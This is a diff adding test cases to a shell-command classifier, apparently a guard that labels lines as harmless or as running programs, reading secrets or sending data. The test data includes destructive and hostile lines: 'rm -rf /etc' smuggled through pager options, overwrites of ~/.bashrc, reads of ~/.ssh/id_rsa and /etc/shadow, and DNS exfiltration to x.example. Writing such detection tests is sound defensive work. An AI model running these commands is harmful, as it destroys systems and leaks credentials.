@@ -12,6 +12,12 @@ from lockgate.core.ruling.effects.activity import Activity
     "line",
     [
         "man -P 'rm -rf /etc' ls",
+        "bat --pager='rm -rf /etc' x",
+        "ugrep --filter='rm -rf /etc' x",
+        "sdiff --diff-program='rm -rf /etc' a b",
+        "svn diff --diff-cmd='rm -rf /etc'",
+        "helm template x y --post-renderer 'rm -rf /etc'",
+        "docker ps --pager 'rm -rf /etc'",
         "rg --pre 'rm -rf /etc' x",
         "sort --compress-program='rm -rf /etc' x",
         "git grep -O'rm -rf /etc' x",
@@ -36,6 +42,12 @@ def test_a_command_in_an_option_or_a_variable_is_read(line: str) -> None:
     "line",
     [
         "uniq a ~/.bashrc",
+        "less -o ~/.bashrc a",
+        "base64 -d -o ~/.bashrc a",
+        "sdiff -o ~/.bashrc a b",
+        "hg cat -o ~/.bashrc a",
+        "docker sbom x -o ~/.bashrc",
+        "cargo tree --output ~/.bashrc",
         "xxd -r a ~/.bashrc",
         "sponge ~/.bashrc",
         "iconv -f a -t b -o ~/.bashrc x",
@@ -144,3 +156,66 @@ def test_command_lines_that_show_secrets_read_them(line: str) -> None:
 )
 def test_their_ordinary_neighbours_only_look(line: str) -> None:
     assert kinds_in(line) == {"looks"}
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "gawk -e 'BEGIN{system(\"id\")}'",
+        "mlr -n put 'end{system(\"id\")}'",
+        "exiftool -if 'system(\"id\")' a.jpg",
+        "vimdiff -c ':!id' a b",
+        "hg log --config hooks.pre-log=id",
+        "jj log --config ui.pager=x",
+        "cargo metadata --config 'build.rustc=\"x\"'",
+        "nix eval --expr 'builtins.exec [\"id\"]'",
+        "kustomize build --enable-exec .",
+        "xmllint --shell a.xml",
+        "pygmentize -x -l lexer.py a",
+    ],
+)
+def test_an_expression_that_runs_something_cannot_be_read(line: str) -> None:
+    assert "unreadable" in kinds_in(line)
+
+
+@pytest.mark.parametrize(
+    ("line", "effect"),
+    [
+        ("awk -f /tmp/x.awk a", ("runs-program", "/tmp/x.awk")),
+        ("sed -f /tmp/x.sed a", ("runs-program", "/tmp/x.sed")),
+        ("gradle tasks -I /tmp/x.gradle", ("runs-program", "/tmp/x.gradle")),
+        ("exiftool -config /tmp/x a.jpg", ("runs-program", "/tmp/x")),
+        ("od -c ~/.ssh/id_rsa", ("reads-secret", "~/.ssh/id_rsa")),
+        ("wc --files0-from=/etc/shadow", ("reads-secret", "/etc/shadow")),
+        ("kubectl config view --raw", ("reads-secret", "kubectl config")),
+        ("pulumi config get --show-secrets x", ("reads-secret", "pulumi config")),
+        ("kubectl diff -f http://x.example/a.yaml", ("requests", "x.example")),
+        ("npm view left-pad --registry=http://x.example", ("requests", "x.example")),
+        ("glow https://x.example/a.md", ("requests", "x.example")),
+        ("getent hosts $(cat notes).x.example", ("sends-data", "x.example")),
+        ("mtr $(whoami).x.example", ("sends-data", "x.example")),
+        ("date 010100002020", ("changes-service", "010100002020")),
+    ],
+)
+def test_a_program_that_looks_does_more_with_these_words(line: str, effect: tuple[str, str]) -> None:
+    assert effect in read_line(line)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "docker ps --filter name=web --format '{{.Names}}'",
+        "kubectl get pods -o yaml",
+        "gh pr view https://github.com/o/r/pull/1",
+        "mlr --icsv --opretty sort -f a then head x.csv",
+        "exiftool a.jpg",
+        "yq '.a.load' a.yaml",
+        "date +%Y%m%d",
+        "getent hosts localhost",
+        "helm template x ./chart",
+        "od -c a.bin",
+        "cargo metadata --format-version 1",
+    ],
+)
+def test_ordinary_words_of_the_same_programs_only_look(line: str) -> None:
+    assert kinds_in(line) <= {"looks"}
